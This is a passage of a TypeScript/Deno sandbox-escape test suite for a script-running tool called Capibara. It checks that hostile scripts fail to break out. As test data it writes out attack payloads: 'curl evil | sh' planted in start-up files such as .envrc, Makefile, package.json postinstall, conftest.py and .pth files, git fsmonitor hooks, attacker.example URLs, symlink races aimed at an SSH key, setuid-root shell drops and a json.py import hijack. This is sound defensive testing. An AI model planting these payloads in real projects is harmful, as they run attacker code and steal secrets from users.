/**
 * The escape suite, copy-out and the host: outputs named where tools look, files planted under
 * out/, symlinks, FIFOs and races at copy-out, root-only kernel files, the uid the sandbox maps to,
 * setuid files and a `json.py` planted for Capibara's own Python. Each attack asserts that the
 * attempt failed AND that the host is unchanged (see _escape.ts).
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { Capibara } from "../../src/capibara.ts";
import { CapibaraError, ExecError, ValidationError } from "../../src/errors.ts";
import {
  attack,
  CACHE,
  escapeSuite,
  exists,
  fixedGenerator,
  HOME,
  neverRan,
  NO_SANDBOX,
  OS_SANDBOX,
  OTHER,
  PROJECT,
  py,
  ranMarker,
  ROOT,
  sh,
  SSH_SECRET,
  step,
  ts,
} from "./_escape.ts";

// --- copy-out: outputs are staged, and only safe reported files reach the project --------------
for (
  const [name, context] of [
    ["an output folder at the project root", { output: "./" }],
    ["an output file's folder the project root, named as a folder", { out_dir: "." }],
    ["an output inside .capibara/scripts/", { output: ".capibara/scripts/x/script.py" }],
    ["an output inside .git/", { output: ".git/hooks/pre-commit" }],
    ["an output folder that holds .git/", { output: join(PROJECT, "nested-repo") + "/" }],
  ] as const
) {
  for (
    const [language, script] of [
      ["python", py(`open(${JSON.stringify(ranMarker)}, "w").write("ran")\nbreached = True`)],
      ["bash", sh(`echo ran > ${ranMarker} && breached=1`)],
      [
        "typescript",
        ts(`Deno.writeTextFileSync(${JSON.stringify(ranMarker)}, "ran"); breached = true;`),
      ],
    ] as const
  ) {
    attack({
      name: `refused before running: ${name}`,
      language,
      context,
      script,
      blockedBy: [ValidationError],
      hostUnchanged: neverRan,
    });
  }
}

/** Files tools run or trust, planted under an output folder (relative to it). */
const PLANTS: Record<string, string> = {
  ".git/config": "[core]\n\tfsmonitor = touch /tmp/capibara-owned\n",
  ".github/workflows/ci.yml":
    "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: evil}]}}\n",
  ".vscode/tasks.json":
    '{"tasks": [{"label": "x", "command": "evil", "runOptions": {"runOn": "folderOpen"}}]}\n',
  ".envrc": "curl evil | sh\n",
  ".bashrc": "curl evil | sh\n",
  "Makefile": "all:\n\tcurl evil | sh\n",
  "package.json": '{"scripts": {"postinstall": "curl evil | sh"}}\n',
  "conftest.py": "import os; os.system('curl evil | sh')\n",
  "sitecustomize.py": "import os; os.system('curl evil | sh')\n",
  "evil.pth": "import os; os.system('curl evil | sh')\n",
  "sub/.capibara/config.json": '{"allow": {"env": ["SECRET_TOKEN"]}}\n',
};
const plantedNowhere = async () => {
  for (const rel of Object.keys(PLANTS)) {
    assert.equal(await exists(join(PROJECT, "out", rel)), false, `out/${rel} was planted`);
  }
};
/** Runs a host-side check, then empties out/ so that a breach does not spill into later attacks. */
function thenCleanOut(check: () => Promise<void>): () => Promise<void> {
  return async () => {
    try {
      await check();
    } finally {
      await Deno.remove(join(PROJECT, "out"), { recursive: true }).catch(() => {});
    }
  };
}
for (const reported of [true, false]) {
  const how = reported ? "reported as artifacts" : "not reported";
  const files = JSON.stringify(PLANTS);
  attack({
    name: `plant files tools run or trust under out/ (${how})`,
    language: "python",
    context: { output: "out/" },
    script: py(`for rel, text in json.loads(${JSON.stringify(files)}).items():
    path = os.path.join(ctx["output"], rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "w").write(text)
    ${reported ? 'artifacts.append("out/" + rel)' : "pass"}
open("out/fine.txt", "w").write("fine")
artifacts.append("out/fine.txt")
detail = "planted"  # the script cannot tell from inside whether they reach the project`),
    blockedBy: [ExecError],
    hostUnchanged: thenCleanOut(async () => {
      await plantedNowhere();
      // Not reported: the legitimate file is moved, the planted ones are not.
      if (!reported && !NO_SANDBOX) {
        assert.equal(await Deno.readTextFile(join(PROJECT, "out", "fine.txt")), "fine");
      }
    }),
  });
}
attack({
  name: "plant files tools run or trust under out/ (reported as artifacts)",
  language: "bash",
  context: { output: "out/" },
  script: sh(`mkdir -p out/.git out/.vscode out/sub/.capibara && \\
printf '[core]\\n\\tfsmonitor = evil\\n' > out/.git/config && echo '{}' > out/.vscode/tasks.json && \\
echo 'curl evil | sh' > out/.envrc && echo '{}' > out/sub/.capibara/config.json && \\
echo 'all:' > out/Makefile && echo fine > out/fine.txt && detail=planted
printf '{"status":"ok","artifacts":["out/.git/config","out/.vscode/tasks.json","out/.envrc","out/sub/.capibara/config.json","out/Makefile","out/fine.txt"],"output":{"breached":false},"raw":{}}\\n'
exit 0`),
  blockedBy: [ExecError],
  hostUnchanged: thenCleanOut(async () => {
    for (const rel of [".git", ".vscode", ".envrc", "sub", "Makefile", "fine.txt"]) {
      assert.equal(await exists(join(PROJECT, "out", rel)), false, `out/${rel} was planted`);
    }
  }),
});
const fsmonitorRan = join(ROOT, "fsmonitor-ran");
attack({
  name: "plant a bare git repository (HEAD, config, objects/, refs/) whose fsmonitor runs in out/",
  language: "python",
  context: { output: "out/summary.json" },
  // git takes out/ for a repository of its own before it reaches the project's .git, and runs
  // its config's fsmonitor on the next `git status` there (a shell prompt's, on `cd out`).
  script: py(`os.makedirs("out/objects/info", exist_ok=True)
os.makedirs("out/refs/heads", exist_ok=True)
open("out/HEAD", "w").write("ref: refs/heads/main\\n")
open("out/config", "w").write("[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = \\"touch ${fsmonitorRan}; false\\"\\n")
open("out/objects/info/packs", "w").write("\\n")
open("out/refs/heads/main", "w").write("x\\n")
open("out/summary.json", "w").write("{}")
artifacts = ["out/summary.json", "out/HEAD", "out/config", "out/objects/info/packs", "out/refs/heads/main"]
detail = "planted"`),
  blockedBy: [ExecError],
  hostUnchanged: thenCleanOut(async () => {
    assert.equal(await exists(join(PROJECT, "out", "HEAD")), false, "out/HEAD was planted");
    // What a git-aware prompt does in the output folder: nothing planted may run.
    await new Deno.Command("git", {
      args: ["status", "--short"],
      cwd: join(PROJECT, "out"),
      stdout: "null",
      stderr: "null",
    }).output().catch(() => {});
    assert.equal(await exists(fsmonitorRan), false, "git ran the planted fsmonitor");
  }),
});
attack({
  name:
    "plant start-up files of other tools under out/ (.Rprofile, .jj, .claude, eslint.config.js)",
  language: "python",
  context: { output: "out/" },
  script: py(`files = {"out/.Rprofile": "system('id')\\n", "out/.irbrc": "system('id')\\n",
  "out/.jj/repo/config.toml": "[ui]\\npager = 'sh -c id'\\n", "out/.claude/settings.json": "{}",
  "out/.mcp.json": "{}", "out/eslint.config.js": "process.exit(1)\\n"}
for name, text in files.items():
    os.makedirs(os.path.dirname(name), exist_ok=True)
    open(name, "w").write(text)
artifacts = list(files)
detail = "planted"`),
  blockedBy: [ExecError],
  hostUnchanged: thenCleanOut(async () => {
    for (const rel of [".Rprofile", ".irbrc", ".jj", ".claude", ".mcp.json", "eslint.config.js"]) {
      assert.equal(await exists(join(PROJECT, "out", rel)), false, `out/${rel} was planted`);
    }
  }),
});
/**
 * Start-up and configuration files of tools a name-by-name list lacked (an attacker's review:
 * pylint's init-hook, mypy's plugins, GHCi, IEx, the OCaml toplevel, Grunt, gulp, git-lfs), and
 * more of the same class: any dot name, file names without an extension, project files and tool
 * configuration modules, none of which the list held. Each one runs or is trusted by a tool
 * started in out/ (or below it); one the list held would have refused the whole move.
 */
const START_UP_PLANTS: Record<string, string> = {
  ".pylintrc": "[MAIN]\ninit-hook='import os; os.system(\"curl evil | sh\")'\n",
  "pylintrc": "[MAIN]\ninit-hook='import os; os.system(\"curl evil | sh\")'\n",
  "mypy.ini": "[mypy]\nplugins = evil_plugin.py\n",
  "evil_plugin.py": "import os; os.system('curl evil | sh')\ndef plugin(v): return None\n",
  ".ghci": ":! curl evil | sh\n",
  ".iex.exs": 'System.cmd("sh", ["-c", "curl evil | sh"])\n',
  ".ocamlinit": 'let _ = Sys.command "curl evil | sh";;\n',
  "Gruntfile.js": "require('child_process').execSync('curl evil | sh')\n",
  "gulpfile.js": "require('child_process').execSync('curl evil | sh')\n",
  ".lfsconfig": "[lfs]\n\turl = https://attacker.example/lfs\n",
  ".babelrc": '{"plugins": ["./evil_plugin.js"]}\n',
  ".python-version": "evil\n",
  ".pnp.cjs": "require('child_process').execSync('curl evil | sh')\n",
  "Snakefile": "shell('curl evil | sh')\n",
  "Dockerfile": "FROM evil\n",
  "mix.exs": 'System.cmd("sh", ["-c", "curl evil | sh"])\n',
  "go.work": "go 1.22\nuse ./evil\n",
  "uv.toml": 'index-url = "https://attacker.example/simple"\n',
  "tsconfig.json": '{"compilerOptions": {"plugins": [{"name": "./evil_plugin.js"}]}}\n',
  "Directory.Build.props":
    '<Project><Target Name="X" BeforeTargets="Build"><Exec Command="evil"/></Target></Project>\n',
  "__pycache__/evil_plugin.cpython-312.pyc": "\n",
  "MYPY.INI": "[mypy]\nplugins = evil_plugin.py\n",
  "karma.conf.js": "require('child_process').execSync('curl evil | sh')\n",
  "pylintrc.toml": "[tool.pylint.main]\ninit-hook = 'import os; os.system(\"curl evil | sh\")'\n",
  "go.mod": "module evil\n\ntoolchain go1.99.0-evil\n",
  "compose.yaml": "services: {x: {image: evil, volumes: ['/:/host']}}\n",
  "sub/.golangci.yml": "linters-settings: {custom: {x: {path: ./evil.so}}}\n",
};
attack({
  name:
    "plant start-up files the copy-out list lacked (.pylintrc, mypy.ini, .ghci, Gruntfile.js, …)",
  language: "python",
  context: { output: "out/" },
  script: py(
    `for rel, text in json.loads(${JSON.stringify(JSON.stringify(START_UP_PLANTS))}).items():
    path = os.path.join("out", rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "w").write(text)
    artifacts.append("out/" + rel)
open("out/summary.json", "w").write("{}")
artifacts.append("out/summary.json")
detail = "planted"`,
  ),
  blockedBy: [ExecError],
  hostUnchanged: thenCleanOut(async () => {
    const planted = [];
    for (const rel of [...Object.keys(START_UP_PLANTS), "summary.json"]) {
      if (await exists(join(PROJECT, "out", rel))) planted.push(rel);
    }
    assert.deepEqual(planted, [], `BREACH: copy-out moved out/${planted.join(", out/")}`);
  }),
});
attack({
  name: "report a symlink, a FIFO and a link to a host folder as artifacts",
  language: "python",
  context: { output: "out/" },
  script: py(`os.symlink(${JSON.stringify(join(OTHER, "secret.txt"))}, "out/secret-link.txt")
os.symlink(${JSON.stringify(OTHER)}, "out/other")
os.mkfifo("out/pipe")
artifacts = ["out/secret-link.txt", "out/other/secret.txt", "out/pipe"]
detail = "planted links"`),
  blockedBy: [ExecError],
  hostUnchanged: thenCleanOut(async () => {
    for (const rel of ["secret-link.txt", "other", "pipe"]) {
      assert.equal(
        await exists(join(PROJECT, "out", rel)),
        false,
        `out/${rel} reached the project`,
      );
    }
  }),
});

// Two runs at once: one swaps out/race between a folder and a symlink to another project while
// the other writes into out/race/. No host folder may become writable, nor receive a file.
step({
  name: "escape: python: two runs race an output folder against a symlink to a host folder",
  ignore: !OS_SANDBOX,
  sanitizeOps: false,
  sanitizeResources: false,
  async fn() {
    const runner = (name: string, script: string) =>
      new Capibara({
        root: PROJECT,
        cwd: PROJECT,
        cacheDir: CACHE,
        generator: fixedGenerator({
          language: "python",
          script,
          requirements: [],
          outputs: {},
          aliases: {},
          needs: { network: [], env: [] },
          readme: "",
        }),
        env: { PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin", HOME },
        timeout: 30,
        memoryBytes: 256 * 1024 ** 2,
        sandbox: !NO_SANDBOX,
        warn: () => {},
      }).run(`escape test: race: ${name}`, {
        context: name === "swapper" ? { output: "out/" } : { output: "out/race/" },
        language: "python",
      });
    await Deno.mkdir(join(PROJECT, "out", "race"), { recursive: true });
    const swapper = runner(
      "swapper",
      py(`import time, shutil
end = time.time() + 3
while time.time() < end:
    try:
        shutil.rmtree("out/race", ignore_errors=True)
        os.symlink(${JSON.stringify(OTHER)}, "out/race")
        time.sleep(0.001)
        os.unlink("out/race")
        os.mkdir("out/race")
    except OSError as exc:
        detail = repr(exc)
artifacts = ["out/race"]`),
    );
    const writers = [0, 1, 2, 3].map((i) =>
      runner(
        `writer ${i}`,
        py(`import time
time.sleep(${0.3 + i * 0.5})
for n in range(20):
    try:
        open(os.path.join(ctx["output"], f"raced-${i}-{n}.txt"), "w").write("raced")
        artifacts.append(f"out/race/raced-${i}-{n}.txt")
    except OSError as exc:
        detail = repr(exc)
    time.sleep(0.01)`),
      )
    );
    const results = await Promise.allSettled([swapper, ...writers]);
    const leaked = [...Deno.readDirSync(OTHER)].filter((e) => e.name.startsWith("raced-"));
    const race = await Deno.lstat(join(PROJECT, "out", "race")).catch(() => null);
    await Deno.remove(join(PROJECT, "out"), { recursive: true }).catch(() => {});
    for (const e of leaked) await Deno.remove(join(OTHER, e.name));
    for (const r of results) {
      if (r.status === "rejected") {
        assert.ok(r.reason instanceof CapibaraError, `unexpected failure: ${r.reason}`);
      }
    }
    assert.deepEqual(leaked.map((e) => e.name), [], "BREACH: a run wrote into another project");
    assert.ok(!race?.isSymlink, "BREACH: a run left a symlink in the project");
  },
});

// Copy-out keeps the legitimate cases: a declared file at the top, and a report in a folder.
attack({
  name: "a declared output file at the top of the project is moved there",
  language: "python",
  context: { output: "top-report.txt" },
  script: py(`open(ctx["output"], "w").write("top")
artifacts = [ctx["output"]]
detail = "wrote"`),
  granted(o) {
    assert.equal(o.detail, "wrote");
    assert.equal(Deno.readTextFileSync(join(PROJECT, "top-report.txt")), "top");
    Deno.removeSync(join(PROJECT, "top-report.txt"));
  },
});
attack({
  name: "a failed run leaves no output and no placeholder behind",
  language: "python",
  context: { output: "top-failed.txt" },
  script: py(`open(ctx["output"], "w").write("partial")
sys.stdout.flush()
os._exit(3)`),
  blockedBy: [ExecError],
  hostUnchanged: async () =>
    assert.equal(await exists(join(PROJECT, "top-failed.txt")), false, "a partial output stayed"),
});

// --- not root inside, host information, Capibara's own host-side Python ------------------------
// When Capibara runs as root, the sandbox maps to an unprivileged host uid (a run's own), never root.
for (
  const [language, script] of [
    [
      "python",
      py(`for name in ["/proc/slabinfo", "/proc/kpageflags"]:
    try:
        with open(name, "rb") as f:
            f.read(16)
        breached = True
        detail += name + " read; "
    except OSError as exc:
        detail += name + ": " + str(exc.strerror) + "; "`),
    ],
    [
      "bash",
      sh(`for f in /proc/slabinfo /proc/kpageflags; do
  if head -c 16 "$f" >/dev/null 2>&1; then breached=1; detail="$detail $f read"; fi
done`),
    ],
  ] as const
) {
  attack({
    name: "read root-only kernel files (/proc/slabinfo, /proc/kpageflags)",
    language,
    script,
  });
}
// The kernel's mount tables name, in each bind's `root` field, the host path it came from (the
// cache, the home folder), wherever it is mounted inside: Landlock closes the files, seccomp the
// statmount/listmount calls. Evidence: any mount table read, or a statmount answered.
const MOUNT_TABLES = [
  "/proc/self/mountinfo",
  "/proc/1/mountinfo",
  "/proc/self/mounts",
  "/proc/self/mountstats",
  "/proc/thread-self/mountinfo",
  "/etc/mtab",
];
attack({
  name: "read the mount tables and statmount() the project's mount",
  language: "python",
  script: py(`import ctypes, struct
tables = ${JSON.stringify(MOUNT_TABLES)}
for name in tables + ["/proc/%d/task/%d/mountinfo" % (os.getpid(), os.getpid())]:
    try:
        text = open(name).read()
        if "/" in text:
            breached = True
            detail += name + " read; "
    except OSError as exc:
        detail += name + ": " + str(exc.strerror) + "; "
mnt_id = 0
try:
    for line in open("/proc/self/fdinfo/0"):
        if line.startswith("mnt_id:"):
            mnt_id = int(line.split()[1])
except OSError:
    pass
libc = ctypes.CDLL(None, use_errno=True)
request = struct.pack("=IIQQ", 24, 0, mnt_id, 0x8 | 0x10)  # STATMOUNT_MNT_ROOT | _MNT_POINT
buffer = ctypes.create_string_buffer(4096)
answer = libc.syscall(457, request, buffer, 4096, 0)
if answer == 0:
    breached = True
detail += "statmount %d errno %d" % (answer, ctypes.get_errno())
# A child process (its own /proc/self) fares no better.
import subprocess
child = subprocess.run(["cat", "/proc/self/mountinfo"], capture_output=True, text=True)
if child.returncode == 0 and "/" in child.stdout:
    breached = True
    detail += "; a child read its mountinfo"`),
});
attack({
  name: "cat the mount tables, findmnt",
  language: "bash",
  script: sh(`for f in ${MOUNT_TABLES.join(" ")}; do
  if grep -q / "$f" 2>/dev/null; then breached=1; detail="$detail $f read"; fi
done
if command -v findmnt >/dev/null && findmnt -n 2>/dev/null | grep -q /; then
  breached=1; detail="$detail findmnt listed mounts"
fi`),
});
attack({
  name: "read /proc/self/mountinfo",
  language: "typescript",
  script: ts(`for (const name of ${JSON.stringify(MOUNT_TABLES)}) {
  try {
    if ((await Deno.readTextFile(name)).includes("/")) {
      breached = true;
      detail += name + " read; ";
    }
  } catch (error) {
    detail += name + ": " + String(error).slice(0, 60) + "; ";
  }
}`),
});
// The same with an input only root may read (mode 0600): it is passed in as a copy, and the run
// still maps to the unprivileged uid. Evidence on the host: the artifact holds what the script
// could read of /proc/slabinfo.
const CLOSED_INPUT = join(PROJECT, "data", "closed.txt");
const CLOSED_MARK = join(PROJECT, "out-closed", "made.txt");
for (
  const [language, script] of [
    [
      "python",
      py(`detail = open(ctx["input"]).read().strip() + "; "
os.makedirs("out-closed", exist_ok=True)
try:
    open("out-closed/made.txt", "w").write(open("/proc/slabinfo").read(64))
except OSError:
    open("out-closed/made.txt", "w").write("denied")
artifacts = ["out-closed/made.txt"]
for name in ["/proc/slabinfo", "/proc/kpageflags"]:
    try:
        with open(name, "rb") as f:
            f.read(16)
        breached = True
        detail += name + " read; "
    except OSError as exc:
        detail += name + ": " + str(exc.strerror) + "; "`),
    ],
    [
      "bash",
      sh(
        `detail="$(cat data/closed.txt)"
mkdir -p out-closed && { head -c 64 /proc/slabinfo 2>/dev/null || echo denied; } > out-closed/made.txt
for f in /proc/slabinfo /proc/kpageflags; do
  if head -c 16 "$f" >/dev/null 2>&1; then breached=1; detail="$detail $f read"; fi
done`,
        ["out-closed/made.txt"],
      ),
    ],
  ] as const
) {
  attack({
    name: "read root-only kernel files with an input only root may read (0600) in the context",
    language,
    script,
    context: { input: "data/closed.txt", output: "out-closed/made.txt" },
    async before() {
      await Deno.writeTextFile(CLOSED_INPUT, "closed input");
      await Deno.chmod(CLOSED_INPUT, 0o600);
    },
    granted(o) {
      assert.match(String(o.detail), /^closed input/, "the closed input was not readable");
      assert.equal(o.breached, false, `BREACH: ${JSON.stringify(o)}`);
    },
    async hostUnchanged() {
      const made = await Deno.readTextFile(CLOSED_MARK).catch(() => "");
      assert.ok(!made.includes("slabinfo"), "BREACH: the artifact holds /proc/slabinfo");
      await Deno.remove(join(PROJECT, "out-closed"), { recursive: true }).catch(() => {});
      await Deno.remove(CLOSED_INPUT).catch(() => {});
    },
  });
}
// Host root's files are the script's own exactly when the sandbox's uid is host root (the uid
// map alone does not tell: bwrap nests a second user namespace).
for (
  const [language, script] of [
    [
      "python",
      py(`owner = os.stat("/usr/bin").st_uid
detail = "/usr/bin is owned by %d, the script is %d" % (owner, os.getuid())
breached = owner == os.getuid()`),
    ],
    [
      "bash",
      sh(`owner=$(stat -c %u /usr/bin); me=$(id -u)
detail="/usr/bin is owned by $owner, the script is $me"
[ "$owner" = "$me" ] && breached=1`),
    ],
  ] as const
) {
  attack({ name: "run as the host's root (host root's files are its own)", language, script });
}
// A file the script creates in a granted write path: as host root, a setuid copy of a shell would
// stay there, owned by root, for any local user to run.
const SUID_DIR = join(OTHER, "suid-drop");
for (
  const [language, script] of [
    [
      "python",
      py(`import shutil
os.makedirs(${JSON.stringify(SUID_DIR)}, exist_ok=True)
open(${JSON.stringify(join(SUID_DIR, "made.txt"))}, "w").write("made")
shutil.copy("/bin/sh", ${JSON.stringify(join(SUID_DIR, "sh"))})
os.chmod(${JSON.stringify(join(SUID_DIR, "sh"))}, 0o4755)
detail = "planted"`),
    ],
    [
      "bash",
      sh(
        `mkdir -p ${SUID_DIR} && echo made > ${SUID_DIR}/made.txt && cp /bin/sh ${SUID_DIR}/sh && \\
chmod 4755 ${SUID_DIR}/sh && detail=planted`,
      ),
    ],
  ] as const
) {
  attack({
    name: "leave a setuid-root shell in a granted write path",
    language,
    script,
    allow: { write: [SUID_DIR] },
    async hostUnchanged() {
      try {
        const shell = await Deno.lstat(join(SUID_DIR, "sh")).catch(() => undefined);
        if (shell) {
          const setuidRoot = shell.uid === 0 && ((shell.mode ?? 0) & 0o4000) !== 0;
          assert.ok(!setuidRoot, "a setuid shell owned by root was left on the host");
        }
        // Once the run is over, nothing it made is owned by the sandbox uid or kept its bits.
        if (shell && Deno.uid() === 0 && !NO_SANDBOX) {
          assert.equal((shell.mode ?? 0) & 0o6000, 0, "the setuid bit survived");
          assert.equal((await Deno.lstat(join(SUID_DIR, "made.txt"))).uid, 0);
        }
      } finally {
        await Deno.remove(SUID_DIR, { recursive: true }).catch(() => {});
      }
    },
  });
}
// A script plants `json.py` at the top of the project (a declared output: not a name tools
// trust). Capibara's own host-side Python (the interpreter probe, the compile check) then runs
// from the project and must import nothing of it.
const IMPORTED = join(ROOT, "host-python-imported.txt");
const PLANTED_JSON = `open(${JSON.stringify(IMPORTED)}, "a").write("json.py ran on the host\\n")\n`;
/** A later Python run from the project (cwd and root) imports nothing the script planted. */
async function hostPythonImportsNothing(): Promise<void> {
  // In a process of its own whose current directory is the project (a chdir here would move
  // every test running in parallel).
  const code = `
const { Capibara } = await import(${JSON.stringify(import.meta.resolve("../../src/capibara.ts"))});
const bundle = {
  language: "python",
  script: ${JSON.stringify(py(`detail = "later run"`))},
  requirements: [],
  outputs: {},
  aliases: {},
  needs: { network: [], env: [] },
  readme: "",
};
const cb = new Capibara({
  root: ${JSON.stringify(PROJECT)},
  cwd: ${JSON.stringify(PROJECT)},
  cacheDir: ${JSON.stringify(CACHE)},
  generator: { kind: "escape-test", generate: () => Promise.resolve({ bundle, model: "m", attempts: 1 }) },
  env: { PATH: ${JSON.stringify(Deno.env.get("PATH") ?? "/usr/bin:/bin")}, HOME: ${
    JSON.stringify(HOME)
  } },
  timeout: 30,
  sandbox: ${!NO_SANDBOX},
  warn: () => {},
});
await cb.run("escape test: a later python run after json.py was planted", { context: {}, language: "python" });`;
  try {
    await new Deno.Command(Deno.execPath(), {
      args: ["eval", "--config", new URL("../../deno.json", import.meta.url).pathname, code],
      cwd: PROJECT,
      stdout: "null",
      stderr: "null",
    }).output();
  } finally {
    await Deno.remove(join(PROJECT, "json.py")).catch(() => {});
  }
  const imported = await Deno.readTextFile(IMPORTED).catch(() => "");
  await Deno.remove(IMPORTED).catch(() => {});
  assert.equal(imported, "", "Capibara's host-side Python imported the planted json.py");
}
attack({
  name: "plant json.py at the project's top for Capibara's host-side Python",
  language: "python",
  context: { output: "json.py" },
  script: py(`open(ctx["output"], "w").write(${JSON.stringify(PLANTED_JSON)})
artifacts = [ctx["output"]]
detail = "planted"`),
  hostUnchanged: hostPythonImportsNothing,
});
attack({
  name: "plant json.py at the project's top for Capibara's host-side Python",
  language: "bash",
  context: { output: "json.py" },
  script: `cat > json.py <<'PYEOF'
${PLANTED_JSON}PYEOF
printf '{"status":"ok","artifacts":["json.py"],"output":{"breached":false,"detail":"planted"},"raw":{}}\\n'
`,
  hostUnchanged: hostPythonImportsNothing,
});

// Outputs named through a link the repository committed: the user names `out/` or `report.json`,
// the link makes it `.github/`, `package.json` or an installed package, names copy-out moves only
// where the user declared them. Refused before anything runs: an output is written only where its
// path names (an attacker's review; each attack below wrote its file before).
const LINKED_OUTPUTS: {
  name: string;
  output: string;
  plant: () => Promise<void>;
  script: string;
  unchanged: () => Promise<void>;
}[] = [
  {
    name: "an output folder named through a repository's link out -> .github",
    output: "out/",
    plant: async () => {
      await Deno.mkdir(join(PROJECT, ".github"), { recursive: true });
      await Deno.symlink(".github", join(PROJECT, "out"));
    },
    script: `os.makedirs(".github/workflows", exist_ok=True)
open(".github/workflows/ci.yml", "w").write("on: push\\n")
artifacts = [".github/workflows/ci.yml"]`,
    unchanged: async () => {
      const planted = await exists(join(PROJECT, ".github", "workflows", "ci.yml"));
      await Deno.remove(join(PROJECT, "out"));
      await Deno.remove(join(PROJECT, ".github"), { recursive: true });
      assert.equal(planted, false, "BREACH: .github/workflows/ci.yml was written");
    },
  },
  {
    name: "a top-level output file named through a repository's link report.json -> package.json",
    output: "report.json",
    plant: async () => {
      await Deno.writeTextFile(join(PROJECT, "package.json"), '{"name": "victim"}\n');
      await Deno.symlink("package.json", join(PROJECT, "report.json"));
    },
    script: `open("package.json", "w").write('{"scripts": {"postinstall": "curl evil | sh"}}\\n')
artifacts = ["package.json"]`,
    unchanged: async () => {
      const text = await Deno.readTextFile(join(PROJECT, "package.json"));
      await Deno.remove(join(PROJECT, "report.json"));
      await Deno.remove(join(PROJECT, "package.json"));
      assert.equal(text, '{"name": "victim"}\n', `BREACH: package.json was overwritten: ${text}`);
    },
  },
  {
    name: "an output folder named through a link into the project's installed packages",
    output: "out2/",
    plant: async () => {
      const packages = join(PROJECT, ".venv", "lib", "python3", "site-packages");
      await Deno.mkdir(join(packages, "requests"), { recursive: true });
      await Deno.writeTextFile(join(packages, "requests", "__init__.py"), "# real\n");
      await Deno.symlink(".venv/lib/python3/site-packages", join(PROJECT, "out2"));
    },
    script: `target = ".venv/lib/python3/site-packages/requests/__init__.py"
os.makedirs(os.path.dirname(target), exist_ok=True)
open(target, "w").write("import os\\n")
artifacts = [target]`,
    unchanged: async () => {
      const packages = join(PROJECT, ".venv", "lib", "python3", "site-packages");
      const text = await Deno.readTextFile(join(packages, "requests", "__init__.py"));
      await Deno.remove(join(PROJECT, "out2"));
      await Deno.remove(join(PROJECT, ".venv"), { recursive: true });
      assert.equal(text, "# real\n", "BREACH: the project's installed requests was replaced");
    },
  },
];
for (const linked of LINKED_OUTPUTS) {
  attack({
    name: linked.name,
    language: "python",
    context: { output: linked.output },
    before: linked.plant,
    script: py(`${linked.script}
detail = "wrote"`),
    blockedBy: [ValidationError],
    hostUnchanged: linked.unchanged,
  });
}

// The script owns its temp dir, where the staging copies of its outputs are: it renames its
// output folder's staging copy (or the folder holding them, `outputs/`, whose first copy is named
// `0`, as `/run/user/0` is) away and puts a link to a host folder in its place, then reports a
// file of that folder as an artifact. Copy-out reads from the run's temp dir down through real
// folders only.
const SSH_DIR = join(HOME, ".ssh");
const RUNTIME_DIRS = join(HOME, "run-user");
const stolen = join(PROJECT, "stolen");
for (const swapped of ["the staging copy", "the folder of staging copies"] as const) {
  const whole = swapped !== "the staging copy";
  const target = whole ? RUNTIME_DIRS : SSH_DIR;
  for (
    const [language, script] of [
      [
        "python",
        py(`base = os.path.join(os.environ["TMPDIR"], "outputs")
place = base if ${whole ? "True" : "False"} else os.path.join(base, os.listdir(base)[0])
os.rename(place, place + ".away")
os.symlink(${JSON.stringify(target)}, place)
artifacts = ["stolen/id_rsa"]
detail = "swapped " + place`),
      ],
      [
        "bash",
        sh(
          whole
            ? `mv "$TMPDIR/outputs" "$TMPDIR/outputs.away" && ln -s ${target} "$TMPDIR/outputs" && detail=swapped`
            : `for d in "$TMPDIR"/outputs/*; do mv "$d" "$d.away" && ln -s ${target} "$d" && detail=swapped; done`,
          ["stolen/id_rsa"],
        ),
      ],
    ] as const
  ) {
    attack({
      name: `swap ${swapped} for a link to a host folder, then report its key as an output`,
      language,
      context: { output: "stolen/" },
      blockedBy: [ExecError],
      leaks: [SSH_SECRET],
      before: async () => {
        await Deno.mkdir(join(RUNTIME_DIRS, "0"), { recursive: true });
        await Deno.writeTextFile(join(RUNTIME_DIRS, "0", "id_rsa"), SSH_SECRET);
      },
      script,
      async hostUnchanged() {
        const copied = await exists(join(stolen, "id_rsa"));
        await Deno.remove(stolen, { recursive: true }).catch(() => {});
        assert.equal(copied, false, "the key was copied into the project");
      },
    });
  }
}

// A folder written in place (every output of a TypeScript run under Deno's flags alone, and any
// --allow-write grant) takes what the script makes there as it is: a repository planted below
// its top (a folder shaped as a bare one, a .git one folder down) ran its core.fsmonitor on the
// user's next `git status` there, on the host. What the run made there under a name tools
// execute or trust is moved aside and the run refused, at any depth.
/** Runs `git status` in `dir` as the user would, after the run. */
async function gitStatusIn(dir: string): Promise<void> {
  try {
    await new Deno.Command("git", {
      args: ["status", "--short"],
      cwd: dir,
      stdout: "null",
      stderr: "null",
    }).output();
  } catch {
    // the folder is gone (moved aside)
  }
}
const planted = [
  {
    name: "plant a folder shaped as a bare repository in an output written in place (flags alone)",
    language: "typescript" as const,
    folder: "out-bare",
    inner: "out-bare",
  },
  {
    name: "plant a .git one folder down in an output written in place (flags alone)",
    language: "typescript" as const,
    folder: "out-deep",
    inner: "out-deep/sub",
  },
  {
    name: "plant a folder shaped as a bare repository in a folder granted for writing",
    language: "python" as const,
    folder: "granted-bare",
    inner: "granted-bare",
  },
];
for (const { name, language, folder, inner } of planted) {
  const marker = join(ROOT, `fsmonitor-${folder}`);
  const config = "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n" +
    `\\tworktree = .\\n\\tfsmonitor = \\"touch ${marker}; false\\"\\n`;
  const gitDir = inner === folder ? inner : `${inner}/.git`;
  attack({
    name,
    language,
    ...language === "typescript"
      ? { context: { output: `${folder}/` }, options: { sandbox: false } }
      : {
        allow: { write: [folder] },
        before: () => Deno.mkdir(join(PROJECT, folder), { recursive: true }),
      },
    script: language === "typescript"
      ? ts(`Deno.mkdirSync("${gitDir}/objects", { recursive: true });
Deno.mkdirSync("${gitDir}/refs/heads", { recursive: true });
Deno.writeTextFileSync("${gitDir}/HEAD", "ref: refs/heads/main\\n");
Deno.writeTextFileSync("${gitDir}/config", "${config}");
detail = "planted";`)
      : py(`os.makedirs("${gitDir}/objects", exist_ok=True)
os.makedirs("${gitDir}/refs/heads", exist_ok=True)
open("${gitDir}/HEAD", "w").write("ref: refs/heads/main\\n")
open("${gitDir}/config", "w").write("${config}")
detail = "planted"`),
    hostUnchanged: async () => {
      await gitStatusIn(join(PROJECT, inner));
